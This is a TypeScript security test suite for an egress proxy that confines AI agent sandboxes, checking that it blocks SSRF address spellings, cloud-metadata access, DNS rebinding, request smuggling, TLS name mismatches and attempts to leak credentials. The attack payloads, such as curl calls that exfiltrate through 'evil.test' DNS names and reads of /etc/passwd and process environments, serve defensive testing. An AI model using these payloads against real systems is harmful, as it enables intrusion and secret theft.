import { createServer, type Server } from 'node:net';
import { pino } from 'pino';
import { afterAll, afterEach, beforeAll, beforeEach, expect } from 'vitest';
import { sandboxLimitsSchema } from '#core/agents/agent-profile.ts';
import { createAddressGuard } from '#core/egress/address-guard.ts';
import type { EgressRecord } from '#core/egress/egress-record.ts';
import { egressRuleSchema } from '#core/egress/egress-rule.ts';
import { AppError } from '#core/kit/errors.ts';
import { type Certificate, makeCertificate } from '#tests/fakes/web/certificate.ts';
import { fakeNames } from '#tests/fakes/web/names.ts';
import { startUpstream, type Upstream } from '#tests/fakes/web/upstream.ts';
import { attack, limit } from '#tests/support/attack.ts';
import { openSandboxStage, run, type SandboxStage } from '#tests/support/sandbox-stage.ts';
import { createOpenGateway } from '#workers/egress/open-gateway.ts';
import type { Reach } from '#workers/egress/reach.ts';
import { type HopSender, openHopSender } from '#workers/egress/send-hop.ts';
import type { DockerSandboxes } from '#workers/sandbox/docker-sandboxes.ts';
import type { Sandbox } from '#workers/sandbox/sandbox.ts';

/** Belongs to `api.test` alone. */
const secret = 'the-K3y/of+this-test==';
/** An address of this machine that nobody opened; 127.0.0.1 stands for the public internet here. */
const inside = '127.0.0.2';

let stage: SandboxStage;
let certificate: Certificate;
let api: Upstream;
let plain: Upstream;
let evil: Upstream;
let canary: Server;
let canaryPort: number;
let reached = 0;
let names: ReturnType<typeof fakeNames>;
let sender: HopSender;
let worker: DockerSandboxes;
let sandbox: Sandbox;
let sessionId: string;
const records: EgressRecord[] = [];

beforeAll(async () => {
  stage = openSandboxStage();
  certificate = makeCertificate(['api.test', 'evil.test', 'files.test']);
  api = await startUpstream({ tls: certificate });
  plain = await startUpstream();
  evil = await startUpstream({ tls: certificate });
  canary = createServer((socket) => {
    reached += 1;
    socket.on('error', () => undefined).end('HTTP/1.1 200 OK\r\ncontent-length: 6\r\nconnection: close\r\n\r\nsesame');
  });
  canaryPort = await new Promise<number>((resolve) => {
    canary.listen(0, inside, () => {
      const address = canary.address();
      resolve(typeof address === 'object' && address !== null ? address.port : 0);
    });
  });
  names = fakeNames({
    'api.test': ['127.0.0.1'],
    'evil.test': ['127.0.0.1'],
    'files.test': ['127.0.0.1'],
    'inside.test': [inside],
    'both.test': ['127.0.0.1', inside],
    'rebind.test': [['127.0.0.1'], [inside], ['127.0.0.1'], [inside]],
    'mapped.test': [`::ffff:${inside}`],
    'metadata.google.internal': ['169.254.169.254'],
    'opened.test': ['127.0.0.3'],
    'fresh.test': ['127.0.0.1'],
  });
  const reach: Reach = {
    guard: createAddressGuard({ open: ['127.0.0.1', '127.0.0.3'] }),
    lookup: names.lookup,
    ca: certificate.cert,
  };
  sender = openHopSender(reach);
  worker = stage.worker(
    {},
    {
      openGateway: createOpenGateway({
        log: pino({ level: 'silent' }),
        journal: {
          admit: async () => ({ ok: true, bytesLeft: 1e9 }),
          spend: () => true,
          record: (record) => void records.push(record),
        },
        credentials: {
          resolve: async (name, { host }) => {
            if (name === 'key' && host === 'api.test') return secret;
            throw new AppError('credential.not_allowed', `The secret ${name} may not be used for ${host}.`);
          },
        },
        sender,
        reach,
      }),
    },
  );
  sessionId = stage.newSession();
  sandbox = await worker.open(
    {
      sessionId,
      agent: 'tester',
      limits: sandboxLimitsSchema.parse({ network: 'gateway' }),
      egress: [
        { host: 'api.test', ports: [api.port], methods: ['*'], credential: 'key' },
        { host: 'files.test', ports: [plain.port, api.port], methods: ['*'] },
        { host: 'evil.test', ports: [evil.port], methods: ['*'] },
        // An operator who has given up on rules: the addresses are all that is left.
        { host: '*', ports: [canaryPort, 80, 443, 2375, 6379, 5432], methods: ['*'] },
      ].map((rule) => egressRuleSchema.parse(rule)),
    },
    new AbortController().signal,
  );
  const tool = `
import json, socket, sys
def raw(data, path=None):
    if path: s = socket.socket(socket.AF_UNIX); s.connect(path)
    else: s = socket.create_connection(('127.0.0.1', 3128))
    s.settimeout(20); s.sendall(data.encode('latin1'))
    out = b''
    try:
        while True:
            part = s.recv(65536)
            if not part: break
            out += part
            s.settimeout(4)
    except OSError: pass
    s.close()
    return out.decode('latin1')
def tunnel(to, name):
    import ssl
    s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(20)
    s.sendall(f'CONNECT {to} HTTP/1.1\\r\\nhost: {to}\\r\\n\\r\\n'.encode('latin1'))
    answer = s.recv(65536).decode('latin1')
    if ' 200 ' in answer[:20]:
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        try: client = ssl._create_unverified_context().wrap_bio(incoming, outgoing, server_hostname=name)
        except ValueError: client = ssl._create_unverified_context().wrap_bio(incoming, outgoing)
        try: client.do_handshake()
        except ssl.SSLError: pass
        try: s.sendall(outgoing.read()); answer += s.recv(65536).decode('latin1')
        except OSError: pass
    s.close()
    return answer
for case in json.load(sys.stdin):
    print(json.dumps(raw(case) if isinstance(case, str) else tunnel(*case)))
`;
  await sandbox.writeFile('raw.py', tool, { append: false, signal: new AbortController().signal });
});
afterAll(async () => {
  await stage[Symbol.asyncDispose]();
  await sender[Symbol.asyncDispose]();
  for (const server of [api, plain, evil]) await server[Symbol.asyncDispose]();
  await new Promise((resolve) => canary.close(resolve));
});
beforeEach(() => {
  reached = 0;
});
afterEach(() => {
  for (const server of [api, plain, evil]) server.requests.length = 0;
});

/** Sends bytes to the proxy from inside, one connection a case, and gives back what came. */
async function sent(cases: readonly (string | readonly [to: string, name: string])[]): Promise<string[]> {
  const { output } = await run(sandbox, 'python3 raw.py', { stdin: JSON.stringify(cases), timeoutMs: 55_000 });
  return output
    .trim()
    .split('\n')
    .map((line) => String(JSON.parse(line)));
}

const statusOf = (answer: string | undefined): number => Number(/^HTTP\/1\.[01] (\d{3})/.exec(answer ?? '')?.[1] ?? 0);

/** Every way of writing the closed address that some reader of addresses takes for it. */
const spellings: Readonly<Record<string, readonly string[]>> = {
  'in dots, in one number, in hex, in octal and short': [
    inside,
    '2130706434',
    '0x7f000002',
    '017700000002',
    '0177.0.0.2',
    '0x7f.0.0.2',
    '127.2',
    '127.0.2',
    '127.0.0.2.',
    '127.000.000.002',
  ],
  'in IPv6, mapped, translated, tunnelled and with a zone': [
    `[::ffff:${inside}]`,
    '[::ffff:7f00:2]',
    '[0:0:0:0:0:ffff:7f00:0002]',
    `[::${inside}]`,
    '[64:ff9b::7f00:2]',
    '[64:ff9b:1::7f00:2]',
    '[2002:7f00:2::]',
    '[2001:0:7f00:2::]',
    '[::1]',
    '[::]',
    '[fe80::1%25lo]',
    '[fe80::1%lo]',
  ],
  'in digits of other scripts and in escapes': [
    '①②⑦.⓪.⓪.②',
    '127。0。0。2',
    '１２７.0.0.2',
    '%31%32%37.0.0.2',
    '127%2e0%2e0%2e2',
    '127.0.0.2%00.files.test',
    '127.0.0.2%09',
  ],
  'as a name, as one of two, and as a name that changes': ['inside.test', 'mapped.test', 'INSIDE.test.', 'both.test'],
  'of the cloud’s metadata': [
    '169.254.169.254:80',
    '2852039166:80',
    '[::ffff:a9fe:a9fe]:80',
    '[fd00:ec2::254]:80',
    'metadata.google.internal:80',
    '100.100.100.200:80',
  ],
  'of this machine and its bridges': [
    '0.0.0.0',
    '0',
    '127.0.0.1.nip.io',
    'localhost:6379',
    'localhost.localdomain:5432',
    '172.17.0.1:2375',
    '10.0.0.1:80',
    '192.168.0.1:80',
    '100.64.0.1:80',
    '224.0.0.1:80',
    '255.255.255.255:80',
  ],
};

const withPort = (host: string) => (/(?:\]|[^\]:]):\d+$/.test(host) ? host : `${host}:${canaryPort}`);
/** Bytes as a client writes them. */
const bytes = (text: string) => Buffer.from(text).toString('latin1');

for (const [what, hosts] of Object.entries(spellings)) {
  attack(
    'network',
    `closed addresses ${what}: asked of the proxy`,
    'judged as the address that is connected to',
    async () => {
      const targets = hosts.map((host) => bytes(withPort(host)));
      const answers = await sent(
        targets.map((host) => `GET http://${host}/x HTTP/1.1\r\nhost: ${host}\r\nconnection: close\r\n\r\n`),
      );
      const wrong = answers.flatMap((answer, index) =>
        [400, 403, 421, 502].includes(statusOf(answer)) ? [] : [[hosts[index], answer.slice(0, 120)]],
      );
      expect(wrong).toEqual([]);
      expect(reached).toBe(0);
    },
  );

  attack('network', `closed addresses ${what}: by CONNECT`, 'no tunnel is opened to them', async () => {
    const targets = hosts.map((host) => bytes(withPort(host)));
    // A tunnel is dialled once its TLS has named a host.
    const answers = await sent(
      targets.map((host) => [host, host.replace(/:\d+$/, '').replaceAll(/^\[|\]$|\.$/g, '')] as const),
    );
    expect(answers.filter((answer) => answer.includes('sesame'))).toEqual([]);
    expect(reached).toBe(0);
  });

  attack(
    'network',
    `closed addresses ${what}: by the gateway’s name`,
    'judged as the address that is connected to',
    async () => {
      const answers = await sent(
        hosts.map(
          (host) =>
            `GET http://gateway/${bytes(withPort(host))}/x HTTP/1.1\r\nhost: gateway\r\nconnection: close\r\n\r\n`,
        ),
      );
      const wrong = answers.flatMap((answer, index) =>
        [400, 403, 421, 502].includes(statusOf(answer)) ? [] : [[hosts[index], answer.slice(0, 120)]],
      );
      expect(wrong).toEqual([]);
      expect(reached).toBe(0);
    },
  );
}

attack(
  'network',
  'a name that changes between the check and the connection',
  'resolved once, and connected to what was judged',
  async () => {
    const ask = `GET http://rebind.test:${canaryPort}/x HTTP/1.1\r\nhost: rebind.test:${canaryPort}\r\nconnection: close\r\n\r\n`;
    const answers = await sent([ask, ask, ask, ask]);
    for (const answer of answers) expect(answer).not.toContain('sesame');
    expect(reached).toBe(0);
  },
);

attack(
  'network',
  'the same ways to an address that is open',
  'they do lead there: what refuses is the guard',
  async () => {
    await using open = await startUpstream({ host: '127.0.0.3', port: canaryPort });
    const hosts = ['127.0.0.3', 'opened.test'];
    const answers = await sent(
      hosts.map(
        (host) =>
          `GET http://${host}:${canaryPort}/x HTTP/1.1\r\nhost: ${host}:${canaryPort}\r\nconnection: close\r\n\r\n`,
      ),
    );
    for (const answer of answers) expect(answer).toContain('reached /x');
    expect(open.requests).toHaveLength(hosts.length);
  },
);

for (const [what, how, make] of [
  [
    'a redirect to the metadata service',
    'each address that is asked for is judged anew',
    () => 'http://169.254.169.254/latest/',
  ],
  [
    'a redirect to a closed address in hex',
    'each address that is asked for is judged anew',
    () => `http://0x7f000002:${canaryPort}/x`,
  ],
  [
    'a redirect to a name of a closed address',
    'each address that is asked for is judged anew',
    () => `http://inside.test:${canaryPort}/x`,
  ],
  [
    'a chain of redirects that ends inside',
    'each address that is asked for is judged anew',
    () =>
      `http://files.test:${plain.port}/redirect?to=${encodeURIComponent(`http://files.test:${plain.port}/redirect?to=${encodeURIComponent(`http://[::ffff:7f00:2]:${canaryPort}/x`)}`)}`,
  ],
  ['a redirect to a file of this machine', 'nothing but http goes to the proxy', () => 'file:///etc/passwd'],
  ['a redirect to another protocol', 'nothing but http goes to the proxy', () => `gopher://${inside}:${canaryPort}/_x`],
] as const) {
  attack('network', what, how, async () => {
    const to = encodeURIComponent(make());
    const { output } = await run(
      sandbox,
      `curl -sSL --max-redirs 8 --max-time 15 -o got -w '%{http_code}' 'http://files.test:${plain.port}/redirect?to=${to}'; cat got 2>/dev/null`,
    );
    expect(output).not.toMatch(/sesame|root:x/);
    expect(plain.requests.length).toBeGreaterThan(0);
    expect(reached).toBe(0);
  });
}

const files = () => `files.test:${plain.port}`;

for (const [what, make] of [
  [
    'a length and chunks together',
    () =>
      `POST http://${files()}/a HTTP/1.1\r\nhost: ${files()}\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.test/x HTTP/1.1\r\n\r\n`,
  ],
  [
    'two lengths that differ',
    () =>
      `POST http://${files()}/a HTTP/1.1\r\nhost: ${files()}\r\ncontent-length: 0\r\ncontent-length: 44\r\n\r\nGET http://evil.test/x HTTP/1.1\r\n\r\n`,
  ],
  [
    'chunks under another spelling',
    () => `POST http://${files()}/a HTTP/1.1\r\nhost: ${files()}\r\ntransfer-encoding: \x0bchunked\r\n\r\n0\r\n\r\n`,
  ],
  [
    'a length in a list',
    () => `POST http://${files()}/a HTTP/1.1\r\nhost: ${files()}\r\ncontent-length: 4, 4\r\n\r\nabcd`,
  ],
  ['a length in hex', () => `POST http://${files()}/a HTTP/1.1\r\nhost: ${files()}\r\ncontent-length: 0x4\r\n\r\nabcd`],
  ['a Host of another host', () => `GET http://${files()}/a HTTP/1.1\r\nhost: evil.test:${evil.port}\r\n\r\n`],
  ['two Hosts', () => `GET http://${files()}/a HTTP/1.1\r\nhost: ${files()}\r\nhost: evil.test\r\n\r\n`],
  [
    'a user name before the host',
    () => `GET http://files.test@${inside}:${canaryPort}/a HTTP/1.1\r\nhost: ${inside}:${canaryPort}\r\n\r\n`,
  ],
  [
    'a fragment before the host',
    () => `GET http://${inside}:${canaryPort}#@${files()}/a HTTP/1.1\r\nhost: ${files()}\r\n\r\n`,
  ],
  [
    'a backslash before the host',
    () => `GET http://${inside}:${canaryPort}\\@${files()}/a HTTP/1.1\r\nhost: ${files()}\r\n\r\n`,
  ],
  ['a tab in the host', () => `GET http://files\t.test:${plain.port}/a HTTP/1.1\r\nhost: ${files()}\r\n\r\n`],
  [
    'a line break in the path, escaped twice',
    () => `GET http://${files()}/a%0d%0ahost:%20evil.test HTTP/1.1\r\nhost: evil.test\r\n\r\n`,
  ],
] as const) {
  attack('proxy', `${what}`, 'what two readers could read in two ways is refused', async () => {
    const [answer] = await sent([make()]);
    expect(statusOf(answer)).toBeGreaterThanOrEqual(400);
    expect(answer?.match(/HTTP\/1\.1 2\d\d/g) ?? []).toEqual([]);
    expect([plain.requests, evil.requests, reached]).toEqual([[], [], 0]);
  });
}

attack('proxy', 'extensions and trailers of chunks', 'a body is read whole and written anew', async () => {
  const [answer] = await sent([
    `POST http://${files()}/echo HTTP/1.1\r\nhost: ${files()}\r\nconnection: close\r\ntransfer-encoding: chunked\r\ntrailer: authorization\r\n\r\n3;x="\n";y=1\r\nabc\r\n0\r\nauthorization: Bearer forged\r\nhost: evil.test\r\n\r\n`,
  ]);
  // Refused, or carried as three letters and nothing else.
  if (statusOf(answer) === 200) {
    expect(plain.requests.map(({ body, headers }) => [body, headers.authorization, headers.host])).toEqual([
      ['abc', undefined, files()],
    ]);
  } else expect(plain.requests).toEqual([]);
});

attack(
  'proxy',
  'a forbidden request behind an allowed one on the same connection',
  'each is judged by itself',
  async () => {
    const [answer = ''] = await sent([
      `GET http://${files()}/one HTTP/1.1\r\nhost: ${files()}\r\n\r\nGET http://inside.test:${canaryPort}/two HTTP/1.1\r\nhost: inside.test:${canaryPort}\r\nconnection: close\r\n\r\n`,
    ]);
    expect([...answer.matchAll(/HTTP\/1\.1 (\d+)/g)].map(([, status]) => status)).toEqual(['200', '403']);
    expect([plain.requests.map(({ url }) => url), reached]).toEqual([['/one'], 0]);
  },
);

attack(
  'proxy',
  'TLS that names another host than its tunnel',
  'the tunnel is cut before anything is connected',
  async () => {
    await sandbox.writeFile(
      'sni.py',
      `
import socket, ssl, sys
def attempt(to, name):
    s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(20)
    s.sendall(f'CONNECT {to} HTTP/1.1\\r\\nhost: {to}\\r\\n\\r\\n'.encode())
    if b' 200 ' not in s.recv(4096): return 'refused'
    context = ssl._create_unverified_context()
    try:
        t = context.wrap_socket(s, server_hostname=name)
        t.sendall(b'GET /in HTTP/1.1\\r\\nhost: x\\r\\nconnection: close\\r\\n\\r\\n')
        return 'REACHED' if b'reached' in t.recv(4096) + t.recv(4096) else 'cut'
    except OSError: return 'cut'
def bare(to, data):
    s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(20)
    s.sendall(f'CONNECT {to} HTTP/1.1\\r\\nhost: {to}\\r\\n\\r\\n'.encode()); s.recv(4096)
    try: s.sendall(data); return 'REACHED' if b'reached' in s.recv(4096) else 'cut'
    except OSError: return 'cut'
print(attempt('files.test:${api.port}', 'files.test'), attempt('files.test:${api.port}', 'evil.test'), attempt('files.test:${api.port}', None), bare('files.test:${plain.port}', b'GET /in HTTP/1.1\\r\\nhost: files.test\\r\\n\\r\\n'))
`,
      { append: false, signal: new AbortController().signal },
    );
    const { output } = await run(sandbox, 'python3 sni.py', { timeoutMs: 55_000 });
    expect(output.trim()).toBe('REACHED cut cut cut');
    expect(plain.requests).toEqual([]);
  },
);

attack(
  'proxy',
  'a tunnel to a host that gets a secret',
  'a secret is put in where the gateway speaks TLS itself',
  async () => {
    const [answer] = await sent([`CONNECT api.test:${api.port} HTTP/1.1\r\nhost: api.test:${api.port}\r\n\r\n`]);
    expect(statusOf(answer)).toBe(403);
  },
);

attack('proxy', 'other protocols through the proxy', 'only http and TLS tunnels are carried', async () => {
  const answers = await sent([
    'EHLO files.test\r\n',
    '*1\r\n$4\r\nPING\r\n',
    '\x00\x00\x00\x08\x04\xd2\x16\x2f',
    '\x05\x01\x00',
    'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
    `GET http://${files()}/a HTTP/9.9\r\nhost: ${files()}\r\n\r\n`,
  ]);
  for (const answer of answers) expect(answer === '' || statusOf(answer) >= 400).toBe(true);
  expect(plain.requests).toEqual([]);
});

attack('proxy', 'other ports of its own loopback', 'nothing else listens in the container', async () => {
  const { output } = await run(
    sandbox,
    // Sockets that listen, in either family; 0C38 is 3128.
    `cat /proc/net/tcp /proc/net/tcp6 | awk '$4 == "0A" { sub(/.*:/, "", $2); print $2 }' | sort -u`,
  );
  expect(output.trim()).toBe('0C38');
});

attack(
  'proxy',
  'the end of the forwarder',
  'the agent harms its own way out only; the next call has one again',
  async () => {
    await run(sandbox, 'pkill -9 -f forward; kill -9 -1').catch(() => undefined);
    expect((await run(sandbox, `curl -s --max-time 15 http://${files()}/back`)).output).toBe('reached /back');
  },
);

attack('network', 'data in names that are looked up', 'a name that no rule covers is not looked up', async () => {
  const other = await worker.open(
    {
      sessionId: stage.newSession(),
      agent: 'tester',
      limits: sandboxLimitsSchema.parse({ network: 'gateway' }),
      egress: [egressRuleSchema.parse({ host: 'fresh.test', ports: [plain.port] })],
    },
    new AbortController().signal,
  );
  const before = names.asked.length;
  await run(
    other,
    `curl -s --max-time 15 http://c2VjcmV0.evil.test/; curl -s --max-time 15 http://gateway/c2VjcmV0.evil.test/; curl -s --max-time 15 -k https://c2VjcmV0.evil.test/; getent hosts c2VjcmV0.evil.test`,
    { timeoutMs: 50_000 },
  );
  expect(names.asked.slice(before).filter((name) => name.includes('evil'))).toEqual([]);
  expect((await run(other, `curl -s --max-time 15 http://fresh.test:${plain.port}/ok`)).output).toBe('reached /ok');
  expect(names.asked.slice(before)).toEqual(['fresh.test']);
});

limit(
  'network',
  '20: data in names below an allowed `*.host`',
  'whoever runs that zone sees them: write hosts out, without a star',
  async () => {
    const before = names.asked.length;
    await run(sandbox, 'curl -s --max-time 15 http://c2VjcmV0.evil.test/');
    // The one thing that leaves is the name; the request itself is on record.
    expect(names.asked.slice(before)).toEqual(['c2vjcmv0.evil.test']);
    await expect.poll(() => records.some(({ host }) => host === 'c2vjcmv0.evil.test')).toBe(true);
  },
);

limit(
  'network',
  'data sent to a host that is allowed',
  'a rule with methods `*` lets anything go there: list methods and paths, and use `network: none`',
  async () => {
    await run(sandbox, `curl -s --max-time 15 -d 'what the agent knows' http://${files()}/echo`);
    expect(plain.requests.map(({ body }) => body)).toEqual(['what the agent knows']);
    await expect.poll(() => records.at(-1)).toMatchObject({ host: 'files.test', method: 'POST' });
  },
);

const shapes = () => [
  secret,
  Buffer.from(secret).toString('base64'),
  Buffer.from(secret).toString('hex'),
  encodeURIComponent(secret),
];
const gateway = (path: string) => `http://gateway/api.test:${api.port}${path}`;
const curl = async (args: string) => (await run(sandbox, `curl -s --max-time 15 ${args}`)).output;

attack(
  'secrets',
  '22: a server that shows back what it was sent',
  'scrubbed in every usual form, header and body',
  async () => {
    const said: string[] = [];
    for (const path of ['/echo', '/echo-gzip', '/echo-drip'])
      said.push(await curl(`-i --compressed '${gateway(path)}'`));
    said.push(await curl(`-r 2-9 '${gateway('/echo-range')}'`), await curl(`-r 0-5 '${gateway('/echo-range')}'`));
    expect(api.requests[0]?.headers.authorization).toBe(`Bearer ${secret}`);
    for (const text of said) for (const shape of shapes()) expect(text).not.toContain(shape);
    expect(said.join('')).toContain('***');
  },
);

attack(
  'secrets',
  'a secret asked for a host it does not belong to',
  'a handle is resolved for its hosts only',
  async () => {
    const said = await curl(`-H 'x-key: $CRED{key}' 'http://gateway/evil.test:${evil.port}/echo'`);
    expect(said).not.toContain(secret);
    for (const { headers, rawHeaders } of evil.requests) {
      expect(JSON.stringify([headers, rawHeaders])).not.toContain(secret);
    }
  },
);

attack('secrets', 'a secret asked for in an address or a body', 'a handle is resolved in headers only', async () => {
  await curl(`-d 'k=$CRED{key}' '${gateway('/echo?k=$CRED%7Bkey%7D')}'`);
  await curl(`-g -d @- '${gateway('/echo?k=$CRED{key}')}' <<< 'k=$CRED{key}'`);
  expect(api.requests.length).toBeGreaterThan(0);
  for (const { url, body } of api.requests) expect(`${url} ${body}`).not.toContain(secret);
});

attack('secrets', 'a secret asked for in a command or a file', 'it is text there and nothing else', async () => {
  await sandbox.writeFile('config', 'token: $CRED{key}\n', { append: false, signal: new AbortController().signal });
  const { output } = await run(
    sandbox,
    `cat config; echo '$CRED{key}'; env; cat /proc/self/environ /run/host/* 2>/dev/null`,
  );
  expect(output).toContain('token: $CRED{key}\n$CRED{key}\n');
  expect(output).not.toContain(secret);
});

attack(
  'secrets',
  'the secret’s header taken for another one',
  'it is written over what the sandbox sent, and not kept back by Connection',
  async () => {
    await sent([
      `GET http://gateway/api.test:${api.port}/echo HTTP/1.1\r\nhost: gateway\r\nconnection: authorization, close\r\nauthorization: Bearer mine\r\nAuthorization : Bearer other\r\n\r\n`,
      `GET http://gateway/api.test:${api.port}/echo HTTP/1.1\r\nhost: gateway\r\nconnection: authorization, close\r\nauthorization: Bearer mine\r\n\r\n`,
    ]);
    expect(api.requests.map(({ headers }) => headers.authorization)).toEqual([`Bearer ${secret}`]);
  },
);

attack('secrets', 'a secret over a connection that is not encrypted', 'it goes over TLS only', async () => {
  const said = await curl(`-i 'http://api.test:${api.port}/echo'`);
  expect(said).not.toContain(secret);
  expect(plain.requests.concat(evil.requests)).toEqual([]);
});

attack(
  'secrets',
  'a redirect that takes a secret along',
  'redirects come back to the sandbox, without it',
  async () => {
    const to = encodeURIComponent(`https://evil.test:${evil.port}/echo`);
    const said = await curl(`-L -k --max-redirs 3 '${gateway(`/redirect?to=${to}`)}'`);
    expect(said).not.toContain(secret);
    for (const { headers } of evil.requests) expect(JSON.stringify(headers)).not.toContain(secret);
  },
);

attack('secrets', 'secrets in the record of requests', 'names of secrets are on record, and no value', () => {
  expect(records.length).toBeGreaterThan(5);
  expect(JSON.stringify(records)).toContain('"key"');
  for (const shape of shapes()) expect(JSON.stringify(records)).not.toContain(shape);
});
